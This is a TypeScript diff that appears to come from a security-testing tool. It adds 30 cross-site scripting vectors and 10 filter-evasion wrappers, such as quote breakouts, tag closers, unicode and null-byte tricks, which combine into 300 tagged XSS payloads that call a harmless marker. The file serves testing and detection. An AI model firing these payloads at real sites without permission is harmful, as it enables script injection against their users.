@@ -53,3 +53,57 @@ export const htmlPayloads = (canary: { readonly http: string; readonly file: str
     ...each((url) => `<template shadowrootmode=open><img src="${url}"></template>`),
   ];
 };
+
+const vectors: readonly ((run: string) => string)[] = [
+  (run) => `<script>${run}</script>`,
+  (run) => `<img src=x onerror=${run}>`,
+  (run) => `<svg onload=${run}>`,
+  (run) => `<svg><script>${run}</script></svg>`,
+  (run) => `<body onload=${run}>`,
+  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
+  (run) => `<a href="javascript:${run}" autofocus>x</a>`,
+  (run) => `<details open ontoggle=${run}>x</details>`,
+  (run) => `<input autofocus onfocus=${run}>`,
+  (run) => `<video><source onerror=${run}></video>`,
+  (run) => `<math><mtext><img src=x onerror=${run}></mtext></math>`,
+  (run) => `<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart=${run}>x</b>`,
+  (run) => `<marquee onstart=${run}>x</marquee>`,
+  (run) => `<object data="javascript:${run}"></object>`,
+  (run) => `<template><script>${run}</script></template>`,
+  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  (run) => `<img src="http://xss.example/x" onerror=${run}>`,
+  (run) => `<link rel=stylesheet href=http://xss.example/x.css onerror=${run}>`,
+  (run) => `[x](javascript:${run}) ![x](http://xss.example/x.png)`,
+  (run) => `{{constructor.constructor("${run}")()}}`,
+  (run) => `\${${run}}`,
+  (run) => `javascript:${run}//http://xss.example/`,
+  (run) => `<base href=http://xss.example/><script src=x.js>`,
+  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
+  (run) => `<form action="javascript:${run}"><button autofocus>x</button></form>`,
+  (run) => `<dialog open onclose=${run}><form method=dialog></form></dialog>`,
+  (run) => `<select autofocus onfocus=${run}>`,
+  (run) => `<div popover onbeforetoggle=${run}>x</div>`,
+];
+/** How each is dressed to get out of what it stands in. */
+const dresses: readonly ((text: string) => string)[] = [
+  (text) => text,
+  (text) => `">${text}`,
+  (text) => `'>${text}`,
+  (text) => `</title></textarea></style></script>-->${text}`,
+  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
+  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
+  (text) => `\u202e${text}`,
+  (text) => text.replaceAll(/<(\w)/g, "<\u0000$1"),
+  (text) => text.toUpperCase().replaceAll("XSS(", "xss("),
+  (text) => `\`"'></b>${text}`,
+];
+/** 300, each with a word of its own by which it is found on a page. */
+export const scriptPayloads: readonly { readonly word: string; readonly text: string }[] = vectors.flatMap(
+  (vector, v) =>
+    dresses.map((dress, d) => {
+      const word = `qzx${v.toString(36)}y${d}q`;
+      return { word, text: `${word} ${dress(vector(`xss(1)`))}` };
+    }),
+);
